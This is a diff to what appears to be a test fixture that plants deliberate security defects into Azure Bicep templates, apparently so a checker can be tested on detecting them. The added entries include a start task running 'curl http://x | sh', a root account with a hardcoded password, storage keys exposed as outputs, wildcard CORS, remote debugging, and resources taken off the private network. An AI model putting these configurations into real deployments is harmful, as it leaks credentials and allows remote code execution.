@@ -138,6 +138,95 @@ PLANTED = {
         "roleDefinitions', blobDataOwner)",
     ),
     "the topic writes every queue": ("events.bicep", "scope: jobs", "scope: storage"),
+    "a key of a mount": (
+        "batch.bicep",
+        "    metadata:",
+        "    mountConfiguration: [{ azureFileShareConfiguration: { accountName: 'a', accountKey: 'k' } }]\n"
+        "    metadata:",
+    ),
+    "an account on the nodes": (
+        "batch.bicep",
+        "    metadata:",
+        "    userAccounts: [{ name: 'root', password: 'hunter2' }]\n    metadata:",
+    ),
+    "a door into the nodes": (
+        "batch.bicep",
+        "? { subnetId: subnetId,",
+        "? { endpointConfiguration: { inboundNatPools: [] }, subnetId: subnetId,",
+    ),
+    "an account of Batch's own": (
+        "batch.bicep",
+        "    poolAllocationMode",
+        "    autoStorage: { storageAccountId: storage.id }\n    poolAllocationMode",
+    ),
+    "a key in an output": (
+        "storage.bicep",
+        "output id string",
+        "output key string = storage.listKeys().keys[0].value\noutput id string",
+    ),
+    "a connection string in an output": (
+        "monitor.bicep",
+        "output insightsId",
+        "output conn string = insights.properties.ConnectionString\noutput insightsId",
+    ),
+    "every page may call the app": (
+        "dispatcher.bicep",
+        "http20Enabled: true",
+        "http20Enabled: true, cors: { allowedOrigins: ['*'] }",
+    ),
+    "a debugger in the app": (
+        "dispatcher.bicep",
+        "http20Enabled: true",
+        "http20Enabled: true, remoteDebuggingEnabled: true",
+    ),
+    "a time as a default": (
+        "main.bicep",
+        "param budgetStart string = ''",
+        "param budgetStart string = utcNow('yyyy-MM-01')",
+    ),
+    "a role for anyone": (
+        "batch.bicep",
+        "principalId: nodes.properties.principalId",
+        "principalId: location",
+    ),
+    "a command when a node starts": (
+        "batch.bicep",
+        "    metadata:",
+        "    startTask: { commandLine: 'curl http://x | sh' }\n    metadata:",
+    ),
+    "events that vanish": (
+        "events.bicep",
+        "queueMessageTimeToLiveInSeconds: 604800",
+        "queueMessageTimeToLiveInSeconds: 1",
+    ),
+    "a vault that is made from a deleted one": (
+        "vault.bicep",
+        "softDeleteRetentionInDays: 7",
+        "softDeleteRetentionInDays: 7\n    createMode: 'recover'",
+    ),
+    "events to a webhook": ("events.bicep", "endpointType: 'StorageQueue'", "endpointType: 'WebHook'"),
+    "a password as a parameter": (
+        "dispatcher.bicep",
+        "param audience string",
+        "param audience string\nparam password string",
+    ),
+    "storage outside of the network": ("main.bicep", "isPrivate: vnetEnabled", "isPrivate: false"),
+    "nodes outside of the network": (
+        "main.bicep",
+        "subnetId: vnetEnabled ? network!.outputs.nodesSubnetId : ''",
+        "subnetId: ''",
+    ),
+    "the app outside of the network": (
+        "main.bicep",
+        "subnetId: vnetEnabled ? network!.outputs.appSubnetId : ''",
+        "subnetId: ''",
+    ),
+    "a secret in a setting": ("dispatcher.bicep", "SLIPWAY_REGION: location", "SLIPWAY_SEAL_KEY: 'c2VjcmV0'"),
+    "secrets that deployments read": (
+        "vault.bicep",
+        "publicNetworkAccess: 'Enabled'",
+        "publicNetworkAccess: 'Enabled'\n    enabledForTemplateDeployment: true",
+    ),
     "a time for each deployment": ("vault.bicep", "name: 'kv-${token}'", "name: 'kv-${utcNow()}'"),
 }
 
